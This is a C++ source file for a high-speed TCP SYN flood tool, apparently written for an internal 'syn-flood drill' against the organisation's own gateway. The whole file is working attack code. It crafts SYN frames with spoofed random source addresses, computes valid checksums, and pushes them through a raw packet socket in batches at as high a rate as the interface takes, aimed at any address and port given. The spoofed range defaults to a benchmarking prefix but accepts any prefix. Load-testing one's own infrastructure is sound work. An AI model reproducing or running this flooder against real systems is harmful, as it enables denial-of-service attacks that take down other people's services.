// spillway-synflood: a TCP SYN flood for the syn-flood drill, as fast as one
// core can push frames into an interface (scapy manages a few thousand
// packets a second; this is what the estate can really throw at a gateway).
//
//   spillway-synflood --iface IF --dst-mac MAC --vip ADDR --port N
//                     [--src-net CIDR] [--seconds S] [--rate PPS] [--batch N]
//                     [--seed N] [--result PATH]
//
// Every frame is an Ethernet + IPv4 + TCP SYN (20-byte header, no options,
// padded to 60 bytes) from a random source address of --src-net (default
// 198.18.0.0/15, the benchmarking range: never an address of the estate) and
// a random source port and sequence number, to VIP:port, with correct IPv4
// and TCP checksums (the gateway checks them). Frames leave through one
// AF_PACKET raw socket bound to IF with sendmmsg() in batches of --batch,
// bypassing the qdisc (PACKET_QDISC_BYPASS); the source MAC is IF's own.
// --rate 0 (default) sends as fast as the socket takes them; otherwise the
// batches are paced against CLOCK_MONOTONIC. It stops after --seconds or at
// SIGINT/SIGTERM and prints one JSON object (also written to --result):
// sent, send errors (ENOBUFS and the like: frames the socket refused),
// seconds and the achieved packets per second.
//
// Exit codes: 0 ok, 1 error (socket, interface), 2 usage.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <array>
#include <atomic>
#include <cerrno>
#include <csignal>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <fstream>
#include <iostream>
#include <nlohmann/json.hpp>
#include <optional>
#include <string>
#include <vector>

namespace {

constexpr std::size_t kFrameLen = 60;  // 14 + 20 + 20, padded to Ethernet's minimum
constexpr std::size_t kIpOff = 14;
constexpr std::size_t kTcpOff = 34;

std::atomic<bool> gStop{false};

void onSignal(int) {
  gStop.store(true);
}

double nowSeconds() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

std::optional<std::array<std::uint8_t, 6>> parseMac(const std::string& text) {
  std::array<unsigned, 6> v{};
  char tail = 0;
  if (std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x%c", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5],
                  &tail) != 6)
    return std::nullopt;
  std::array<std::uint8_t, 6> mac{};
  for (std::size_t i = 0; i < 6; ++i) {
    if (v[i] > 0xff) return std::nullopt;
    mac[i] = static_cast<std::uint8_t>(v[i]);
  }
  return mac;
}

// xorshift64*: fast, and deterministic for a given --seed.
struct Rng {
  std::uint64_t s;
  std::uint64_t next() {
    s ^= s >> 12;
    s ^= s << 25;
    s ^= s >> 27;
    return s * 0x2545F4914F6CDD1DULL;
  }
};

std::uint32_t sum16(const std::uint8_t* p, std::size_t n, std::uint32_t acc = 0) {
  for (std::size_t i = 0; i + 1 < n; i += 2)
    acc += static_cast<std::uint32_t>(p[i] << 8 | p[i + 1]);
  return acc;
}

std::uint16_t fold(std::uint32_t acc) {
  while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
  return static_cast<std::uint16_t>(~acc & 0xffff);
}

void put16(std::uint8_t* p, std::uint16_t v) {
  p[0] = static_cast<std::uint8_t>(v >> 8);
  p[1] = static_cast<std::uint8_t>(v);
}

void put32(std::uint8_t* p, std::uint32_t v) {
  put16(p, static_cast<std::uint16_t>(v >> 16));
  put16(p + 2, static_cast<std::uint16_t>(v));
}

// One SYN from src:sport (seq) to the template's VIP and port.
void fillSyn(std::uint8_t* f, std::uint32_t src, std::uint16_t sport, std::uint32_t seq,
             std::uint16_t ipId) {
  std::uint8_t* ip = f + kIpOff;
  std::uint8_t* tcp = f + kTcpOff;
  put16(ip + 4, ipId);
  put32(ip + 12, src);
  put16(ip + 10, 0);
  put16(ip + 10, fold(sum16(ip, 20)));
  put16(tcp, sport);
  put32(tcp + 4, seq);
  put16(tcp + 16, 0);
  // Pseudo-header: source, destination, protocol 6, TCP length 20.
  std::uint32_t acc = sum16(ip + 12, 8, 6 + 20);
  put16(tcp + 16, fold(sum16(tcp, 20, acc)));
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"spillway-synflood: a TCP SYN flood from random sources towards a VIP"};
  std::string iface, dstMacText, vipText, srcNet = "198.18.0.0/15", resultPath;
  unsigned port = 0, batch = 64;
  double seconds = 10, rate = 0;
  std::uint64_t seed = 1;
  app.add_option("--iface", iface, "interface to send on")->required();
  app.add_option("--dst-mac", dstMacText, "the gateway's MAC (aa:bb:cc:dd:ee:ff)")->required();
  app.add_option("--vip", vipText, "destination IPv4 address")->required();
  app.add_option("--port", port, "destination TCP port")->required()->check(CLI::Range(1, 65535));
  app.add_option("--src-net", srcNet, "random sources from this IPv4 prefix");
  app.add_option("--seconds", seconds, "how long to send")->check(CLI::PositiveNumber);
  app.add_option("--rate", rate, "packets per second, 0 = as fast as possible")
      ->check(CLI::NonNegativeNumber);
  app.add_option("--batch", batch, "frames per sendmmsg()")->check(CLI::Range(1, 1024));
  app.add_option("--seed", seed, "PRNG seed (non-zero)")->check(CLI::Range(1ULL, ~0ULL));
  app.add_option("--result", resultPath, "also write the JSON result here");
  CLI11_PARSE(app, argc, argv);

  const auto dstMac = parseMac(dstMacText);
  in_addr vip{};
  if (!dstMac || inet_pton(AF_INET, vipText.c_str(), &vip) != 1) {
    std::cerr << "synflood: bad --dst-mac or --vip\n";
    return 2;
  }
  const auto slash = srcNet.find('/');
  in_addr net{};
  int prefixLen = -1;
  if (slash != std::string::npos) {
    prefixLen = std::atoi(srcNet.c_str() + slash + 1);
    if (inet_pton(AF_INET, srcNet.substr(0, slash).c_str(), &net) != 1) prefixLen = -1;
  }
  if (prefixLen < 8 || prefixLen > 32) {
    std::cerr << "synflood: --src-net wants an IPv4 prefix /8../32, not " << srcNet << "\n";
    return 2;
  }
  const std::uint32_t hostMask =
      prefixLen == 32 ? 0 : (std::uint32_t{0xffffffff} >> static_cast<unsigned>(prefixLen));
  const std::uint32_t netBase = ntohl(net.s_addr) & ~hostMask;

  const int fd = socket(AF_PACKET, SOCK_RAW, 0);  // protocol 0: send only, receive nothing
  if (fd < 0) {
    std::perror("synflood: socket(AF_PACKET)");
    return 1;
  }
  ifreq ifr{};
  std::strncpy(ifr.ifr_name, iface.c_str(), IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) {
    std::perror(("synflood: interface " + iface).c_str());
    return 1;
  }
  const int ifindex = ifr.ifr_ifindex;
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) {
    std::perror("synflood: SIOCGIFHWADDR");
    return 1;
  }
  sockaddr_ll addr{};
  addr.sll_family = AF_PACKET;
  addr.sll_ifindex = ifindex;
  addr.sll_protocol = htons(ETH_P_IP);
  if (bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) < 0) {
    std::perror("synflood: bind");
    return 1;
  }
  const int one = 1;
  (void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));

  // The template: everything but source, port, sequence, id and checksums.
  std::array<std::uint8_t, kFrameLen> tmpl{};
  std::memcpy(tmpl.data(), dstMac->data(), 6);
  std::memcpy(tmpl.data() + 6, ifr.ifr_hwaddr.sa_data, 6);
  put16(tmpl.data() + 12, ETH_P_IP);
  std::uint8_t* ip = tmpl.data() + kIpOff;
  ip[0] = 0x45;
  put16(ip + 2, 40);
  put16(ip + 6, 0x4000);  // DF
  ip[8] = 64;
  ip[9] = IPPROTO_TCP;
  std::memcpy(ip + 16, &vip.s_addr, 4);
  std::uint8_t* tcp = tmpl.data() + kTcpOff;
  put16(tcp + 2, static_cast<std::uint16_t>(port));
  tcp[12] = 5 << 4;
  tcp[13] = 0x02;  // SYN
  put16(tcp + 14, 64240);

  std::vector<std::array<std::uint8_t, kFrameLen>> frames(batch, tmpl);
  std::vector<iovec> iov(batch);
  std::vector<mmsghdr> msgs(batch);
  for (unsigned i = 0; i < batch; ++i) {
    iov[i] = {frames[i].data(), kFrameLen};
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  std::signal(SIGINT, onSignal);
  std::signal(SIGTERM, onSignal);
  Rng rng{seed * 0x9E3779B97F4A7C15ULL | 1};
  std::uint64_t sent = 0, errors = 0;
  std::uint16_t ipId = 0;
  const double start = nowSeconds();
  const double end = start + seconds;
  double now = start;
  while (!gStop.load(std::memory_order_relaxed) && now < end) {
    for (unsigned i = 0; i < batch; ++i) {
      const std::uint64_t r = rng.next();
      const std::uint32_t src = netBase | (static_cast<std::uint32_t>(r) & hostMask);
      const auto sport = static_cast<std::uint16_t>(1024 + (r >> 32) % (65536 - 1024));
      fillSyn(frames[i].data(), src, sport, static_cast<std::uint32_t>(r >> 24), ipId++);
    }
    const int n = sendmmsg(fd, msgs.data(), batch, 0);
    if (n < 0) {
      ++errors;
      if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
        std::perror("synflood: sendmmsg");
        return 1;
      }
    } else {
      sent += static_cast<unsigned>(n);
      errors += batch - static_cast<unsigned>(n);
    }
    now = nowSeconds();
    if (rate > 0) {
      const double due = start + static_cast<double>(sent + errors) / rate;
      if (due > now) {
        const auto ns = static_cast<long>((due - now) * 1e9);
        timespec ts{ns / 1000000000L, ns % 1000000000L};
        nanosleep(&ts, nullptr);
        now = nowSeconds();
      }
    }
  }
  const double took = now - start;
  nlohmann::json result{
      {"sent", sent},    {"send_errors", errors},
      {"seconds", took}, {"pps", took > 0 ? static_cast<double>(sent) / took : 0.0},
      {"batch", batch},  {"rate", rate}};
  std::cout << result.dump() << "\n";
  if (!resultPath.empty()) {
    std::ofstream out(resultPath);
    out << result.dump() << "\n";
  }
  close(fd);
  return 0;
}
